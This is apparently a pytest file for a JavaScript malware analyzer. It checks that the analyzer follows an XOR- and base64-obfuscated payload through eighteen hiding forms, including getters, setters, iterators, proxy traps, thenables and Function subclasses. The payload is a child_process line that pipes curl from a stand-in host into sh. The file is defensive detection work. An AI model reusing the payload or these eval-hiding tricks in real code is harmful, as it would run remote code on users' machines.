"""What JavaScript calls by itself is followed: accessors, iterators, proxies, and what is waited for.

Source: ECMAScript, 6.1.5.1 Well-known symbols, 10.5 Proxy objects, 13.2.5 Object initializer.
"""

import base64

import pytest
from attack_files import npm

from ostiary.program.flow import Act
from ostiary.program.model import Program

PAYLOAD = "require('child_process').exec('curl http://a.example.invalid/x | sh')"
HIDDEN = base64.b64encode(bytes(one ^ 7 for one in PAYLOAD.encode())).decode()
SHOW = "String.fromCharCode(...[...Buffer.from({}, 'base64')].map(c => c ^ 7))"

FORMS = {
    "getter": "const o = {get z() {return SHOW(K)}}; eval(o.z)",
    "setter": "const o = {set z(v) {eval(SHOW(v))}}; o.z = K",
    "getter of a class": "class C {get z() {return SHOW(K)}}; eval(new C().z)",
    "setter of a class": "class C {set z(v) {eval(SHOW(v))}}; new C().z = K",
    "static getter": "class C {static get z() {return SHOW(K)}}; eval(C.z)",
    "getter above": "const o = Object.create({get z() {return SHOW(K)}}); eval(o.z)",
    "generator": "const o = {*[Symbol.iterator]() {yield SHOW(K)}}; for (const x of o) eval(x)",
    "iterator": "const o = {[Symbol.iterator]() {return {next() {return {value: SHOW(K)}}}}};"
    "for (const x of o) {eval(x); break}",
    "taken apart": "const o = {*[Symbol.iterator]() {yield SHOW(K)}}; const [x] = o; eval(x)",
    "proxy, get": "eval(new Proxy({}, {get(t, k) {return SHOW(K)}}).z)",
    "proxy, set": "new Proxy({}, {set(t, k, v) {eval(SHOW(v)); return true}}).z = K",
    "proxy, has": "K in new Proxy({}, {has(t, k) {eval(SHOW(k)); return true}})",
    "proxy, delete": "const p = new Proxy({}, {deleteProperty(t, k) {eval(SHOW(k)); return true}});"
    "delete p[K]",
    "proxy, apply": "const p = new Proxy(function() {}, {apply(t, h, a) {return SHOW(a[0])}}); eval(p(K))",
    "proxy, construct": "const p = new Proxy(function() {}, {construct(t, a) {eval(SHOW(a[0])); return {}}});"
    "new p(K)",
    "instanceof": "class C {static [Symbol.hasInstance](v) {eval(SHOW(v)); return true}}; K instanceof C",
    "then": "(async () => {eval(await {then(done) {done(SHOW(K))}})})()",
    "a kind of Function": "class F extends Function {}; new F(SHOW(K))()",
}


@pytest.mark.parametrize("form", FORMS)
def test_it_is_followed(form: str) -> None:
    before, _, rest = FORMS[form].partition("SHOW(")
    name, _, after = rest.partition(")")
    text = f"const K = '{HIDDEN}';\n{before}{SHOW.format(name)}{after}\n"
    programs = [one for one in npm({"index.js": text}).facts if isinstance(one, Program)]
    commands = [flow.text for one in programs for flow in one.flows if flow.act is Act.RUN]
    assert any("a.example.invalid" in one for one in commands)
